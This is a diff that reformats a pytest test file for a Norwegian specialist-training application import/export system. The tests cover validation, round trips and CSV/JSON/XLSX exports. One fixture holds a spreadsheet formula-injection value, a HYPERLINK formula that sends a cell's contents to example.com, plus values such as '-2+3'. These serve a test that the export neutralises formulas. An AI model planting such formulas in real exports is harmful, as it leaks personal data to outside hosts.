@@ -59,8 +59,11 @@ def bodo_alm(**overrides) -> dict:
         "vedtaksdato": "2021-03-15",
         "registrert_fra": "2019-03-01",
         "kontaktperson": {"navn": "Kari Nordmann", "epost": "kari.nordmann@bodo.kommune.no", "telefon": "75 55 50 00"},
-        "kontaktperson_databehandleravtale": {"navn": "Ola Nordmann", "epost": "ola.nordmann@bodo.kommune.no",
-                                              "telefon": "75 55 50 01"},
+        "kontaktperson_databehandleravtale": {
+            "navn": "Ola Nordmann",
+            "epost": "ola.nordmann@bodo.kommune.no",
+            "telefon": "75 55 50 01",
+        },
         "ansvar": {key: True for key in ANSVAR_KEYS},
         "hf_avtale": {"inngatt": True, "navn": "Nordlandssykehuset HF"},
         "bht_godkjent_arbeidstilsynet": None,
@@ -68,16 +71,32 @@ def bodo_alm(**overrides) -> dict:
         "organisering": "Kommuneoverlegen har ansvaret; vurderingskollegium to ganger i året.",
         "veiledere_ansatt": {"valg": "egen_virksomhet", "beskrivelse": ""},
         "veilederkompetanse": {"valg": "delvis", "plan": "Veilederkurs i regi av ALIS-kontor Nord høsten 2019."},
-        "kjent_med_oppgaver": {"valg": "nei", "tiltak": ["kurs", "annet"], "annet": "Hospitering hos erfaren veileder."},
+        "kjent_med_oppgaver": {
+            "valg": "nei",
+            "tiltak": ["kurs", "annet"],
+            "annet": "Hospitering hos erfaren veileder.",
+        },
         "laeringsarenaer": [
-            {"type": "fastlege", "plassering": "egen", "virksomhet": "", "ny_veileder": False,
-             "avtale_veiledning_supervisjon": None,
-             "laeringsmal": "Alle bortsett fra ALM-055 og ALM-085; alle FKM",
-             "supervisjon": ["til_stede", "telefon_digitalt"], "supervisjon_annet": ""},
-            {"type": "sykehus", "plassering": "annen", "virksomhet": "Nordlandssykehuset HF", "ny_veileder": True,
-             "avtale_veiledning_supervisjon": True,
-             "laeringsmal": "ALM 055, 085; FKM 1-5", "supervisjon": ["til_stede", "vakt", "annet"],
-             "supervisjon_annet": "Overlege i bakvakt"},
+            {
+                "type": "fastlege",
+                "plassering": "egen",
+                "virksomhet": "",
+                "ny_veileder": False,
+                "avtale_veiledning_supervisjon": None,
+                "laeringsmal": "Alle bortsett fra ALM-055 og ALM-085; alle FKM",
+                "supervisjon": ["til_stede", "telefon_digitalt"],
+                "supervisjon_annet": "",
+            },
+            {
+                "type": "sykehus",
+                "plassering": "annen",
+                "virksomhet": "Nordlandssykehuset HF",
+                "ny_veileder": True,
+                "avtale_veiledning_supervisjon": True,
+                "laeringsmal": "ALM 055, 085; FKM 1-5",
+                "supervisjon": ["til_stede", "vakt", "annet"],
+                "supervisjon_annet": "Overlege i bakvakt",
+            },
         ],
         "avslagsgrunn": "",
         "anmodning": "",
@@ -111,6 +130,7 @@ def _exported(**filters) -> list[dict]:
 
 # ---- round trip --------------------------------------------------------------------------------------
 
+
 def test_import_then_export_gives_the_same_data():
     records = [bodo_alm(), bht_arb()]
     result = import_records(copy.deepcopy(records))
@@ -125,9 +145,18 @@ def test_import_then_export_gives_the_same_data():
     bht = exported[1]
     given = bht_arb()
     assert _only(bht, given) == given | {"laeringsarenaer": bht["laeringsarenaer"]}
-    assert bht["laeringsarenaer"] == [{"type": "bht", "plassering": "egen", "virksomhet": "", "ny_veileder": None,
-                                       "avtale_veiledning_supervisjon": None,
-                                       "laeringsmal": "Alle", "supervisjon": [], "supervisjon_annet": ""}]
+    assert bht["laeringsarenaer"] == [
+        {
+            "type": "bht",
+            "plassering": "egen",
+            "virksomhet": "",
+            "ny_veileder": None,
+            "avtale_veiledning_supervisjon": None,
+            "laeringsmal": "Alle",
+            "supervisjon": [],
+            "supervisjon_annet": "",
+        }
+    ]
     assert bht["virksomhetstype"] == "bht"
     assert bht["kontaktperson"] == {"navn": "", "epost": "", "telefon": ""}
     assert bht["laeringsarenaer"][0]["ny_veileder"] is None
@@ -150,8 +179,12 @@ def test_export_only_fields_are_computed():
     assert "FKM-025" not in record["laeringsmal_dekket"]  # 24 del 2–3 objectives before 2026-03-01
     assert record["laeringsmal_dekket"] == sorter(record["laeringsmal_dekket"])
     assert record["historikk"] == [
-        {"fra": "utkast", "til": "registrert", "tidspunkt": record["historikk"][0]["tidspunkt"],
-         "melding": "Importert fra Altinn"}
+        {
+            "fra": "utkast",
+            "til": "registrert",
+            "tidspunkt": record["historikk"][0]["tidspunkt"],
+            "melding": "Importert fra Altinn",
+        }
     ]
     tidspunkt = dt.datetime.fromisoformat(record["historikk"][0]["tidspunkt"])
     assert tidspunkt.tzinfo is not None
@@ -160,6 +193,7 @@ def test_export_only_fields_are_computed():
 
 
 # ---- all or nothing ---------------------------------------------------------------------------------
+
 
 def test_one_bad_record_imports_nothing():
     bad = bht_arb()
@@ -195,6 +229,7 @@ def test_a_failure_while_writing_rolls_everything_back(monkeypatch):
 
 # ---- validation -----------------------------------------------------------------------------------
 
+
 def _with(path: str, value, record=None) -> dict:
     """The Bodø record with one value replaced; path like "ansvar.forskrift" or "laeringsarenaer.0.type"."""
     record = record or bodo_alm()
@@ -224,11 +259,18 @@ _DELETE = object()
         ("status", "godkjent", "Post 1, status: «godkjent» er ikke en gyldig status (gyldige: utkast, innsendt,"),
         ("status", _DELETE, "Post 1, status: må fylles ut."),
         ("virksomhetstype", "sykehus", "Post 1, virksomhetstype: «sykehus» er ikke en gyldig virksomhetstype"),
-        ("organisasjonsnummer", "972418014", "Post 1, organisasjonsnummer: Organisasjonsnummeret 972418014 er ikke "
-                                             "gyldig (kontrollsifferet stemmer ikke)."),
+        (
+            "organisasjonsnummer",
+            "972418014",
+            "Post 1, organisasjonsnummer: Organisasjonsnummeret 972418014 er ikke "
+            "gyldig (kontrollsifferet stemmer ikke).",
+        ),
         ("organisasjonsnummer", "12345", "Post 1, organisasjonsnummer: Organisasjonsnummeret må ha ni siffer"),
-        ("organisasjonsnummer", 972418013, "Post 1, organisasjonsnummer: må være tekst (ni siffer i anførselstegn), "
-                                           "ikke et tall."),
+        (
+            "organisasjonsnummer",
+            972418013,
+            "Post 1, organisasjonsnummer: må være tekst (ni siffer i anførselstegn), ikke et tall.",
+        ),
         ("soknadsdato", "2019-13-01", "Post 1, soknadsdato: «2019-13-01» er ikke en gyldig dato (skriv ÅÅÅÅ-MM-DD"),
         ("soknadsdato", "20.05.2019", "Post 1, soknadsdato: «20.05.2019» er ikke en gyldig dato"),
         ("vedtaksdato", 20210315, "Post 1, vedtaksdato: må være en dato som tekst (ÅÅÅÅ-MM-DD), ikke et tall."),
@@ -236,41 +278,79 @@ _DELETE = object()
         ("vedtaksdato", _DELETE, "Post 1, vedtaksdato: må fylles ut når status er «registrert»."),
         ("vedtaksdato", "2019-01-01", "Post 1, vedtaksdato: kan ikke være før søknadsdatoen."),
         ("vedtaksdato", "2999-01-01", "Post 1, vedtaksdato: 2999-01-01 er fram i tid."),
-        ("kontaktperson.epost", "kari(at)bodo.kommune.no",
-         "Post 1, kontaktperson.epost: «kari(at)bodo.kommune.no» er ikke en gyldig e-postadresse."),
+        (
+            "kontaktperson.epost",
+            "kari(at)bodo.kommune.no",
+            "Post 1, kontaktperson.epost: «kari(at)bodo.kommune.no» er ikke en gyldig e-postadresse.",
+        ),
         ("kontaktperson_databehandleravtale.epost", "ola@", "Post 1, kontaktperson_databehandleravtale.epost: «ola@»"),
         ("kontaktperson.telefon", "7" * 31, "Post 1, kontaktperson.telefon: er for lang (31 tegn, høyst 30)."),
         ("kontaktperson.navn", 42, "Post 1, kontaktperson.navn: må være tekst, ikke et tall."),
         ("kontaktperson", "Kari", "Post 1, kontaktperson: må være et objekt, ikke tekst."),
-        ("kontaktperson.mobil", "900 00 000", "Post 1, kontaktperson.mobil: ukjent felt. Kjente felt: navn, epost, "
-                                              "telefon."),
+        (
+            "kontaktperson.mobil",
+            "900 00 000",
+            "Post 1, kontaktperson.mobil: ukjent felt. Kjente felt: navn, epost, telefon.",
+        ),
         ("organisring", "…", "Post 1, organisring: ukjent felt. Mente du «organisering»?"),
         ("ansvar.forskrift", "ja", "Post 1, ansvar.forskrift: må være true eller false, ikke tekst («ja»)."),
         ("ansvar.forskriften", True, "Post 1, ansvar.forskriften: ukjent felt. Mente du «forskrift»?"),
         ("hf_avtale.inngatt", 1, "Post 1, hf_avtale.inngatt: må være true eller false, ikke et tall («1»)."),
-        ("bht_godkjent_arbeidstilsynet", "nei",
-         "Post 1, bht_godkjent_arbeidstilsynet: må være true, false eller null, ikke tekst («nei»)."),
-        ("veiledere_ansatt.valg", "kommunen", "Post 1, veiledere_ansatt.valg: «kommunen» er ikke en gyldig verdi "
-                                              "(gyldige: egen_virksomhet, annen)."),
-        ("veilederkompetanse.valg", "JA", "Post 1, veilederkompetanse.valg: «JA» er ikke en gyldig verdi (gyldige: ja, "
-                                          "delvis, nei)."),
-        ("kjent_med_oppgaver.tiltak", ["kurs", "webinar"], "Post 1, kjent_med_oppgaver.tiltak[2]: «webinar» er ikke "
-                                                           "et gyldig tiltak (gyldige: kurs, veiledersamling, annet)."),
-        ("kjent_med_oppgaver.tiltak", ["kurs", "kurs"], "Post 1, kjent_med_oppgaver.tiltak[2]: «kurs» står mer enn én "
-                                                        "gang."),
+        (
+            "bht_godkjent_arbeidstilsynet",
+            "nei",
+            "Post 1, bht_godkjent_arbeidstilsynet: må være true, false eller null, ikke tekst («nei»).",
+        ),
+        (
+            "veiledere_ansatt.valg",
+            "kommunen",
+            "Post 1, veiledere_ansatt.valg: «kommunen» er ikke en gyldig verdi (gyldige: egen_virksomhet, annen).",
+        ),
+        (
+            "veilederkompetanse.valg",
+            "JA",
+            "Post 1, veilederkompetanse.valg: «JA» er ikke en gyldig verdi (gyldige: ja, delvis, nei).",
+        ),
+        (
+            "kjent_med_oppgaver.tiltak",
+            ["kurs", "webinar"],
+            "Post 1, kjent_med_oppgaver.tiltak[2]: «webinar» er ikke "
+            "et gyldig tiltak (gyldige: kurs, veiledersamling, annet).",
+        ),
+        (
+            "kjent_med_oppgaver.tiltak",
+            ["kurs", "kurs"],
+            "Post 1, kjent_med_oppgaver.tiltak[2]: «kurs» står mer enn én gang.",
+        ),
         ("kjent_med_oppgaver.tiltak", "kurs", "Post 1, kjent_med_oppgaver.tiltak: må være en liste, ikke tekst."),
         ("laeringsarenaer", {"type": "fastlege"}, "Post 1, laeringsarenaer: må være en liste, ikke et objekt."),
         ("laeringsarenaer.1", "sykehus", "Post 1, laeringsarenaer[2]: må være et objekt, ikke tekst."),
-        ("laeringsarenaer.1.plassering", "ekstern",
-         "Post 1, laeringsarenaer[2].plassering: «ekstern» er ikke en gyldig plassering (gyldige: egen, annen)."),
-        ("laeringsarenaer.1.ny_veileder", "ja", "Post 1, laeringsarenaer[2].ny_veileder: må være true, false eller null"),
-        ("laeringsarenaer.0.supervisjon", ["til_stede", "sms"],
-         "Post 1, laeringsarenaer[1].supervisjon[2]: «sms» er ikke en gyldig supervisjonsmåte (gyldige: til_stede, "
-         "telefon_digitalt, planlagt, vakt, annet)."),
-        ("laeringsarenaer.0.laeringsmaal", "Alle", "Post 1, laeringsarenaer[1].laeringsmaal: ukjent felt. Mente du "
-                                                   "«laeringsmal»?"),
-        ("laeringsarenaer.0.virksomhet", "x" * 201, "Post 1, laeringsarenaer[1].virksomhet: er for lang (201 tegn, "
-                                                    "høyst 200)."),
+        (
+            "laeringsarenaer.1.plassering",
+            "ekstern",
+            "Post 1, laeringsarenaer[2].plassering: «ekstern» er ikke en gyldig plassering (gyldige: egen, annen).",
+        ),
+        (
+            "laeringsarenaer.1.ny_veileder",
+            "ja",
+            "Post 1, laeringsarenaer[2].ny_veileder: må være true, false eller null",
+        ),
+        (
+            "laeringsarenaer.0.supervisjon",
+            ["til_stede", "sms"],
+            "Post 1, laeringsarenaer[1].supervisjon[2]: «sms» er ikke en gyldig supervisjonsmåte (gyldige: til_stede, "
+            "telefon_digitalt, planlagt, vakt, annet).",
+        ),
+        (
+            "laeringsarenaer.0.laeringsmaal",
+            "Alle",
+            "Post 1, laeringsarenaer[1].laeringsmaal: ukjent felt. Mente du «laeringsmal»?",
+        ),
+        (
+            "laeringsarenaer.0.virksomhet",
+            "x" * 201,
+            "Post 1, laeringsarenaer[1].virksomhet: er for lang (201 tegn, høyst 200).",
+        ),
         ("referanse", 42, "Post 1, referanse: må være tekst, ikke et tall."),
     ],
 )
@@ -300,7 +380,9 @@ def test_every_error_is_reported_not_only_the_first():
     record["ansvar"]["supervisjon"] = "ja"
     errors = validate_records([record])
     assert [e.split(":")[0] for e in errors] == [
-        "Post 1, spesialitet", "Post 1, soknadsdato", "Post 1, ansvar.supervisjon"
+        "Post 1, spesialitet",
+        "Post 1, soknadsdato",
+        "Post 1, ansvar.supervisjon",
     ]
 
 
@@ -342,6 +424,7 @@ def test_null_means_not_answered():
 
 # ---- what an import writes ----------------------------------------------------------------------
 
+
 def test_reimport_updates_instead_of_duplicating():
     bruker = UserFactory()
     import_records([bodo_alm()], bruker=bruker)
@@ -365,33 +448,47 @@ def test_reimport_replaces_fields_and_arenas():
     import_records([changed])
 
     soknad = Soknad.objects.get()
-    assert (soknad.status, soknad.organisering, soknad.avslagsgrunn) == ("avslatt", "Ny organisering.",
-                                                                          "Mangler avtale.")
+    assert (soknad.status, soknad.organisering, soknad.avslagsgrunn) == (
+        "avslatt",
+        "Ny organisering.",
+        "Mangler avtale.",
+    )
     assert soknad.registrert_fra is None
     arena = soknad.laeringsarenaer.get()
     assert arena.laeringsmal_koder == ["ALM-001", "ALM-002", "ALM-003"]
     historikk = list(soknad.historikk.values_list("fra_status", "til_status", "melding"))
-    assert historikk == [("utkast", "registrert", "Importert fra Altinn"),
-                         ("registrert", "avslatt", "Oppdatert ved import fra Altinn")]
+    assert historikk == [
+        ("utkast", "registrert", "Importert fra Altinn"),
+        ("registrert", "avslatt", "Oppdatert ved import fra Altinn"),
+    ]
     assert Innsending.objects.filter(soknad=soknad).count() == 2
 
 
 def test_a_new_application_gets_one_history_row_and_the_file_history_is_ignored():
     bruker = UserFactory()
-    record = bodo_alm(historikk=[{"fra": "utkast", "til": "innsendt", "tidspunkt": "2019-05-20T10:00:00+02:00",
-                                  "melding": "fra filen"}])
+    record = bodo_alm(
+        historikk=[
+            {"fra": "utkast", "til": "innsendt", "tidspunkt": "2019-05-20T10:00:00+02:00", "melding": "fra filen"}
+        ]
+    )
     soknad = import_records([record], bruker=bruker).soknader[0]
     rad = Statusendring.objects.get(soknad=soknad)
     assert (rad.fra_status, rad.til_status, rad.melding, rad.utfort_av) == (
-        "utkast", "registrert", "Importert fra Altinn", bruker)
+        "utkast",
+        "registrert",
+        "Importert fra Altinn",
+        bruker,
+    )
     assert soknad.opprettet_av == bruker
 
 
 def test_references_are_kept_or_generated_from_the_application_date():
     kept, generated, draft = import_records(
-        [bodo_alm(), bodo_alm(spesialitet="SAM", referanse=None, status="innsendt", vedtaksdato=None,
-                              registrert_fra=None),
-         bht_arb(status="utkast", soknadsdato=None)]
+        [
+            bodo_alm(),
+            bodo_alm(spesialitet="SAM", referanse=None, status="innsendt", vedtaksdato=None, registrert_fra=None),
+            bht_arb(status="utkast", soknadsdato=None),
+        ]
     ).soknader
     assert kept.referanse == "ASA-2019-00042"
     assert generated.referanse == f"ASA-2019-{generated.pk:05d}"
@@ -410,11 +507,18 @@ def test_a_generated_reference_never_takes_one_given_in_the_file():
 
 
 def test_registrert_fra_is_computed_when_not_given():
-    before, after = import_records([
-        bodo_alm(registrert_fra=None),
-        bodo_alm(spesialitet="SAM", referanse=None, registrert_fra=None, soknadsdato="2020-01-10",
-                 vedtaksdato="2020-06-01"),
-    ]).soknader
+    before, after = import_records(
+        [
+            bodo_alm(registrert_fra=None),
+            bodo_alm(
+                spesialitet="SAM",
+                referanse=None,
+                registrert_fra=None,
+                soknadsdato="2020-01-10",
+                vedtaksdato="2020-06-01",
+            ),
+        ]
+    ).soknader
     assert before.registrert_fra == dt.date(2019, 3, 1)  # applied before 1 June 2019
     assert after.registrert_fra == dt.date(2020, 1, 10)
     given = import_records([bodo_alm(registrert_fra="2019-04-01")]).soknader[0]
@@ -422,11 +526,13 @@ def test_registrert_fra_is_computed_when_not_given():
 
 
 def test_virksomhetstype_defaults():
-    kommune, bht, annen = import_records([
-        bodo_alm(virksomhetstype=None),
-        bht_arb(),
-        bht_arb(spesialitet="SAM", bht_godkjent_arbeidstilsynet=None),
-    ]).soknader
+    kommune, bht, annen = import_records(
+        [
+            bodo_alm(virksomhetstype=None),
+            bht_arb(),
+            bht_arb(spesialitet="SAM", bht_godkjent_arbeidstilsynet=None),
+        ]
+    ).soknader
     assert (kommune.virksomhetstype, bht.virksomhetstype, annen.virksomhetstype) == ("kommune", "bht", "")
     privat = import_records([bht_arb(virksomhetstype="privat")]).soknader[0]
     assert privat.virksomhetstype == "privat"
@@ -457,6 +563,7 @@ def test_a_complete_application_has_no_findings():
 
 
 # ---- organisations ------------------------------------------------------------------------------
+
 
 def test_unknown_organisation_with_the_registry_down_is_created_unverified():
     result = import_records([bht_arb(), bht_arb(organisasjonsnummer="912345017", navn="")])
@@ -489,16 +596,20 @@ def test_unknown_company_gets_its_registry_name(fake_brreg):
 
 
 def test_organisations_the_registry_does_not_have_are_warned_about(fake_brreg):
-    result = import_records([
-        bht_arb(organisasjonsnummer=fakes.IKKE_FUNNET, navn="Fantom AS"),
-        bht_arb(organisasjonsnummer=fakes.FJERNET, navn=""),
-        bht_arb(organisasjonsnummer=fakes.SLETTET, navn="Gammel BHT AS"),
-    ])
+    result = import_records(
+        [
+            bht_arb(organisasjonsnummer=fakes.IKKE_FUNNET, navn="Fantom AS"),
+            bht_arb(organisasjonsnummer=fakes.FJERNET, navn=""),
+            bht_arb(organisasjonsnummer=fakes.SLETTET, navn="Gammel BHT AS"),
+        ]
+    )
     fantom, fjernet, slettet = (s.virksomhet for s in result.soknader)
     assert (fantom.navn, fantom.navnekilde) == ("Fantom AS", Virksomhet.Navnekilde.MANUELL)
     assert (fjernet.navn, fjernet.navnekilde) == (fakes.FJERNET, Virksomhet.Navnekilde.MANUELL)
-    assert result.warnings[0] == ("Post 1: Organisasjonsnummeret 123 456 785 finnes ikke i Enhetsregisteret. "
-                                  "Virksomheten er opprettet som «Fantom AS», ikke verifisert.")
+    assert result.warnings[0] == (
+        "Post 1: Organisasjonsnummeret 123 456 785 finnes ikke i Enhetsregisteret. "
+        "Virksomheten er opprettet som «Fantom AS», ikke verifisert."
+    )
     assert result.warnings[1].startswith("Post 2: Organisasjonsnummeret 912 345 068 er fjernet fra Enhetsregisteret.")
     assert result.warnings[2].startswith("Post 3: ") and "er slettet i Enhetsregisteret" in result.warnings[2]
     assert Mangelkode.VIRKSOMHET_SLETTET in set(result.soknader[2].mangler.values_list("kode", flat=True))
@@ -513,6 +624,7 @@ def test_after_one_registry_failure_the_rest_are_not_asked(fake_brreg):
 
 # ---- export cost ------------------------------------------------------------------------------------
 
+
 def _orgnumre():
     """Distinct valid organisation numbers (the factory's sequence may give one number twice)."""
     from stdnum.no import orgnr
@@ -522,16 +634,26 @@ def _orgnumre():
 
 def _applications(n: int) -> None:
     for nummer, _ in zip(_orgnumre(), range(n)):
-        soknad = AnnenVirksomhetSoknadFactory(virksomhet=VirksomhetFactory(organisasjonsnummer=nummer),
-                                              status=Status.INNSENDT, soknadsdato=dt.date(2024, 1, 2))
+        soknad = AnnenVirksomhetSoknadFactory(
+            virksomhet=VirksomhetFactory(organisasjonsnummer=nummer),
+            status=Status.INNSENDT,
+            soknadsdato=dt.date(2024, 1, 2),
+        )
         LaeringsarenaFactory.create_batch(2, soknad=soknad, laeringsmal_koder=["ARB-001", "FKM-001"])
         Statusendring.objects.create(soknad=soknad, fra_status=Status.UTKAST, til_status=Status.INNSENDT)
         mangler_refresh(soknad=soknad)
 
 
-@pytest.mark.parametrize("export", [
-    lambda qs: export_records(qs), exports.json_response, exports.csv_response, exports.xlsx_response,
-], ids=["records", "json", "csv", "xlsx"])
+@pytest.mark.parametrize(
+    "export",
+    [
+        lambda qs: export_records(qs),
+        exports.json_response,
+        exports.csv_response,
+        exports.xlsx_response,
+    ],
+    ids=["records", "json", "csv", "xlsx"],
+)
 def test_export_query_count_does_not_grow_with_applications(export):
     counts = {}
     for n in (1, 30):
@@ -551,8 +673,12 @@ FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Klikk")'
 
 def _dangerous_application() -> Soknad:
     soknad = KomplettSoknadFactory(
-        status=Status.INNSENDT, soknadsdato=dt.date(2024, 1, 2), referanse="ASA-2024-00001",
-        kontaktperson_navn=FORMULA, kontaktperson_epost="@kari@example.no", kontaktperson_telefon="+47 755 55 000",
+        status=Status.INNSENDT,
+        soknadsdato=dt.date(2024, 1, 2),
+        referanse="ASA-2024-00001",
+        kontaktperson_navn=FORMULA,
+        kontaktperson_epost="@kari@example.no",
+        kontaktperson_telefon="+47 755 55 000",
     )
     soknad.virksomhet.navn = "-2+3"
     soknad.virksomhet.save()
@@ -565,8 +691,7 @@ def test_csv_has_one_row_per_application_and_neutralises_formulas():
     soknad = _dangerous_application()
     response = exports.csv_response(Soknad.objects.all())
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"] == (
-        f'attachment; filename="soknader-{timezone.localdate():%Y-%m-%d}.csv"')
+    assert response["Content-Disposition"] == (f'attachment; filename="soknader-{timezone.localdate():%Y-%m-%d}.csv"')
     header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
     assert header == list(exports.COLUMNS)
     values = dict(zip(header, row))
@@ -609,6 +734,7 @@ def test_json_response_is_the_interchange_format():
 
 # ---- the commands -----------------------------------------------------------------------------------
 
+
 def _file(tmp_path, data, name="soknader.json"):
     path = tmp_path / name
     path.write_text(data if isinstance(data, str) else json.dumps(data, ensure_ascii=False), encoding="utf-8")
@@ -646,10 +772,13 @@ def test_import_command_refuses_a_bad_file_and_imports_nothing(tmp_path):
     assert Soknad.objects.count() == 0
 
 
-@pytest.mark.parametrize(("content", "expected"), [
-    ('[{"organisasjonsnummer": "972418013",', "er ikke gyldig JSON (linje 1"),
-    ('{"organisasjonsnummer": "972418013"}', "Filen må inneholde en JSON-liste"),
-])
+@pytest.mark.parametrize(
+    ("content", "expected"),
+    [
+        ('[{"organisasjonsnummer": "972418013",', "er ikke gyldig JSON (linje 1"),
+        ('{"organisasjonsnummer": "972418013"}', "Filen må inneholde en JSON-liste"),
+    ],
+)
 def test_import_command_refuses_what_is_not_a_list_of_records(tmp_path, content, expected):
     with pytest.raises(CommandError, match=expected.replace("(", r"\(")):
         call_command("importer_soknader", _file(tmp_path, content))
@@ -683,24 +812,33 @@ def test_export_command_writes_everything_with_findings():
 
 
 def test_export_command_filters():
-    import_records([bodo_alm(), bht_arb(), bodo_alm(spesialitet="SAM", referanse=None, status="innsendt",
-                                                  vedtaksdato=None, registrert_fra=None)])
+    import_records(
+        [
+            bodo_alm(),
+            bht_arb(),
+            bodo_alm(spesialitet="SAM", referanse=None, status="innsendt", vedtaksdato=None, registrert_fra=None),
+        ]
+    )
     assert [r["spesialitet"] for r in _export_command("--status", "innsendt")] == ["ARB", "SAM"]
     assert [r["status"] for r in _export_command("--spesialitet", "alm")] == ["registrert"]
     assert [r["spesialitet"] for r in _export_command("--status", "innsendt", "--spesialitet", "SAM")] == ["SAM"]
     assert _export_command("--status", "trukket") == []
 
 
-@pytest.mark.parametrize(("args", "expected"), [
-    (["--status", "godkjent"], "Ukjent status «godkjent». Gyldige: utkast, innsendt"),
-    (["--spesialitet", "KIR"], "Ukjent spesialitet «KIR». Gyldige: ALM, SAM, ARB."),
-])
+@pytest.mark.parametrize(
+    ("args", "expected"),
+    [
+        (["--status", "godkjent"], "Ukjent status «godkjent». Gyldige: utkast, innsendt"),
+        (["--spesialitet", "KIR"], "Ukjent spesialitet «KIR». Gyldige: ALM, SAM, ARB."),
+    ],
+)
 def test_export_command_validates_its_options(args, expected):
     with pytest.raises(CommandError, match=expected):
         call_command("eksporter_soknader", *args, stdout=io.StringIO())
 
 
 # ---- the documentation --------------------------------------------------------------------------------
+
 
 def test_the_documented_example_imports_and_exports_as_shown():
     text = DOC.read_text(encoding="utf-8")
@@ -717,8 +855,11 @@ def test_the_documented_example_imports_and_exports_as_shown():
 def _documented_keys() -> dict[str, list[str]]:
     """The rows of the key tables (the record's and the arenas'), by key: [type, allowed values, model, import]."""
     text = DOC.read_text(encoding="utf-8").split("## The record", 1)[1].split("## Spreadsheets", 1)[0]
-    rows = [[cell.strip() for cell in line.strip().strip("|").split("|")] for line in text.splitlines()
-            if line.startswith("| `")]
+    rows = [
+        [cell.strip() for cell in line.strip().strip("|").split("|")]
+        for line in text.splitlines()
+        if line.startswith("| `")
+    ]
     return {cells[0].strip("`"): cells[1:] for cells in rows}
 
 
